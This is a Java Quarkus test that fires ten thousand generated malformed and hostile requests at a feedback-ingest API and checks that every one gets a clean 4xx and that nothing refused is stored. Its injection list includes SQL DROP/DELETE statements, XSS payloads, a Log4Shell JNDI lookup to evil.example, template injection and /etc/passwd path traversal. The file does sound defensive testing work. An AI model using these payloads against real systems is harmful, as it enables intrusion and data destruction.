package io.feedbackloop.ingest;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.TreeMap;
import java.util.UUID;
import java.util.function.Function;

import com.fasterxml.jackson.databind.node.TextNode;
import io.feedbackloop.kit.security.Roles;
import io.feedbackloop.kit.security.TestTokens;
import io.feedbackloop.stack.LoopTestResource;
import io.feedbackloop.stack.TopicProbe;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import org.junit.jupiter.api.Test;

/**
 * Ten thousand generated hostile requests against the front door: malformed JSON, wrong types,
 * out-of-range scores, oversized bodies, deep nesting, invalid UTF-8, control characters,
 * injection strings, unknown fields, missing and forged credentials, replayed idempotency keys
 * with other bodies, wrong media types and methods. Never a 5xx; every refusal is a 4xx
 * {@code application/problem+json}; nothing refused is stored or published. The seed makes a
 * failure reproducible ({@code -Dhostile.seed=}).
 */
@QuarkusTest
class HostileInputTest {

    private static final int REQUESTS = Integer.getInteger("hostile.requests", 10_000);
    private static final long SEED = Long.getLong("hostile.seed", 20261123L);
    /** Every request that must be refused names this customer: none of it may be stored. */
    private static final String REFUSED = "hostile-refused-" + UUID.randomUUID().toString().substring(0, 8);
    private static final String[] INJECTIONS = {"'; DROP TABLE feedback; --", "<script>alert(1)</script>",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "../../../../etc/passwd", "\" OR 1=1 --", "%00%0d%0a",
            "<img src=x onerror=alert(1)>", "Robert'); DELETE FROM outbox_event;--", "\u202Egnp.exe"};

    /** A request, and whether it must be refused (4xx) or may be taken (2xx) as well. */
    private record Hostile(String kind, String method, String path, Map<String, String> headers, byte[] body,
                           boolean mustRefuse) {
    }

    private final Random random = new Random(SEED);
    private final HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();

    private static String valid(String customerId, String scoreJson, String textJson) {
        return """
                {"customer":{"id":"%s","email":"h@example.com","locale":"ru"},"channel":"web",
                 "npsScore":%s,"text":%s}""".formatted(customerId, scoreJson, textJson);
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private Map<String, String> json(String key) {
        return Map.of("Content-Type", "application/json", "X-Api-Key", key);
    }

    private Hostile next(int i, String webKey, String emailKey) {
        String path = "/api/v1/feedback";
        String injection = INJECTIONS[random.nextInt(INJECTIONS.length)];
        return switch (i % 16) {
            case 0 -> { // malformed JSON: a valid body cut anywhere, or junk
                String body = valid(REFUSED, "3", "\"x\"");
                yield new Hostile("truncated-json", "POST", path, json(webKey),
                        utf8(body.substring(0, 1 + random.nextInt(body.length() - 2))), true);
            }
            case 1 -> new Hostile("junk-json", "POST", path, json(webKey),
                    utf8(List.of("{", "[1,2", "{\"npsScore\": }", "{,}", "nul", "{\"a\":1,}", "\"\\uZZZZ\"")
                            .get(random.nextInt(7))), true);
            case 2 -> new Hostile("wrong-type", "POST", path, json(webKey), utf8(valid(REFUSED,
                    List.of("\"ten\"", "[1]", "{\"v\":1}", "true", "9.5", "\"\"").get(random.nextInt(6)), "\"x\"")), true);
            case 3 -> new Hostile("out-of-range", "POST", path, json(webKey), utf8(valid(REFUSED,
                    String.valueOf(List.of(-1L, 11L, 99_999L, Long.MAX_VALUE, (long) Integer.MIN_VALUE).get(random.nextInt(5))),
                    "\"x\"")), true);
            case 4 -> new Hostile("oversized", "POST", path, json(webKey),
                    utf8(valid(REFUSED, "3", "\"" + "я".repeat(40_000 + random.nextInt(20_000)) + "\"")), true);
            case 5 -> { // deep nesting in the free-form metadata
                int depth = 2_000 + random.nextInt(8_000);
                String body = valid(REFUSED, "3", "\"x\"").replaceFirst("\\}$",
                        ",\"metadata\":{\"n\":" + "[".repeat(depth) + "]".repeat(depth) + "}}");
                yield new Hostile("deep-nesting", "POST", path, json(webKey), utf8(body), true);
            }
            case 6 -> { // invalid UTF-8 inside the text: ..."text":"abc<bad bytes>"}
                String start = valid(REFUSED, "3", "\"abc");
                byte[] head = utf8(start.substring(0, start.length() - 1));
                byte[] bad = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE};
                byte[] tail = utf8("\"}");
                byte[] body = new byte[head.length + bad.length + tail.length];
                System.arraycopy(head, 0, body, 0, head.length);
                System.arraycopy(bad, 0, body, head.length, bad.length);
                System.arraycopy(tail, 0, body, head.length + bad.length, tail.length);
                yield new Hostile("invalid-utf8", "POST", path, json(webKey), body, true);
            }
            case 7 -> new Hostile("control-chars", "POST", path, json(webKey), utf8(valid(REFUSED, "3",
                    List.of("\"nul\\u0000\"", "\"esc \\u001b[31m\"", "\"bell \\u0007\"").get(random.nextInt(3)))), true);
            case 8 -> new Hostile("injection", "POST", path, json(webKey), utf8(valid("hostile-maybe", "3",
                    TextNode.valueOf(injection).toString())), false);
            case 9 -> new Hostile("unknown-field", "POST", path, json(webKey),
                    utf8(valid(REFUSED, "3", "\"x\"").replaceFirst("\\}$", ",\"isAdmin\":true}")), true);
            case 10 -> new Hostile("no-key", "POST", path, Map.of("Content-Type", "application/json"),
                    utf8(valid(REFUSED, "3", "\"x\"")), true);
            case 11 -> new Hostile("forged-key", "POST", path, json("fk_" + UUID.randomUUID()),
                    utf8(valid(REFUSED, "3", "\"x\"")), true);
            case 12 -> new Hostile("other-channels-key", "POST", path, json(emailKey),
                    utf8(valid(REFUSED, "3", "\"x\"")), true);
            case 13 -> { // an idempotency key replayed with another body
                Map<String, String> headers = new java.util.HashMap<>(json(webKey));
                headers.put("Idempotency-Key", "hostile-replay-" + (i / 64));   // four bodies per key
                yield new Hostile("replayed-key", "POST", path, headers,
                        utf8(valid("hostile-maybe", String.valueOf(random.nextInt(11)), "\"replay " + random.nextInt() + "\"")),
                        false);
            }
            case 14 -> new Hostile("forged-admin", List.of("POST", "GET").get(random.nextInt(2)),
                    List.of("/api/v1/admin/channels/web/keys", "/api/v1/surveys", "/api/v1/customers/c-1/erasure")
                            .get(random.nextInt(3)),
                    Map.of("Content-Type", "application/json", "Authorization",
                            TestTokens.bearer(TestTokens.signedByStranger("admin@example.org", Set.of(Roles.ADMIN), Set.of()))),
                    utf8("{}"), true);
            default -> { // wrong media type on the feedback paths, or ids that name nothing
                String method = List.of("POST", "PATCH", "GET", "DELETE").get(random.nextInt(4));
                List<String> paths = method.equals("GET")
                        ? List.of(path + "/not-a-uuid", path + "/" + UUID.randomUUID(), "/api/v1/invitations/%27")
                        : List.of(path, path + "/not-a-uuid", path + "/" + UUID.randomUUID(), "/api/v1/invitations/%27");
                yield new Hostile("wrong-media-or-path", method, paths.get(random.nextInt(paths.size())),
                    Map.of("Content-Type", List.of("text/plain", "application/xml", "application/json").get(random.nextInt(3)),
                            "X-Api-Key", webKey), utf8("<feedback npsScore=\"3\"/>"), true);
            }
        };
    }

    @Test
    void tenThousandHostileRequestsGetProblemsNeverAServerErrorAndChangeNothing() throws Exception {
        String webKey = IngestApi.key("web");
        String emailKey = IngestApi.key("email");
        Map<String, Map<Integer, Integer>> statuses = new TreeMap<>();
        List<String> violations = new ArrayList<>();
        try (TopicProbe topics = TopicProbe.watch(LoopTestResource.broker().bootstrapServers(), "feedback.received.v1")) {
            for (int i = 0; i < REQUESTS; i++) {
                final int index = i;
                Hostile hostile = next(i, webKey, emailKey);
                HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + RestAssured.port + hostile.path()))
                        .timeout(Duration.ofSeconds(30))
                        .method(hostile.method(), hostile.method().equals("GET") ? HttpRequest.BodyPublishers.noBody()
                                : HttpRequest.BodyPublishers.ofByteArray(hostile.body()));
                hostile.headers().forEach(request::header);
                HttpResponse<String> response = http.send(request.build(), HttpResponse.BodyHandlers.ofString());
                int status = response.statusCode();
                statuses.computeIfAbsent(hostile.kind(), k -> new TreeMap<>()).merge(status, 1, Integer::sum);
                String type = response.headers().firstValue("Content-Type").orElse("");
                Function<String, Boolean> fail = message -> violations.size() < 20 && violations.add(
                        "#" + index + " " + hostile.kind() + " " + hostile.method() + " " + hostile.path() + " → " + status
                                + " " + type + ": " + message + " " + response.body().substring(0, Math.min(300, response.body().length())));
                if (status >= 500) {
                    fail.apply("a server error");
                } else if (status >= 400 && !type.startsWith("application/problem+json")) {
                    fail.apply("a refusal that is not problem+json");
                } else if (status >= 400 && (response.body().contains("Exception") || response.body().contains("\tat "))) {
                    fail.apply("a stack trace or exception name in the answer");
                } else if (hostile.mustRefuse() && status < 400) {
                    fail.apply("taken, but must be refused");
                }
            }
            statuses.forEach((kind, counts) -> System.out.println("hostile " + kind + ": " + counts));
            assertTrue(violations.isEmpty(), String.join("\n", violations));

            // nothing refused was stored or published
            assertEquals(0, IngestApi.admin().get("/api/v1/feedback?customerId=" + REFUSED).then().statusCode(200)
                    .extract().jsonPath().getList("items").size());
            Thread.sleep(1000);
            assertEquals(0, topics.records("feedback.received.v1").stream().filter(r -> r.value().contains(REFUSED)).count());
        }
    }
}
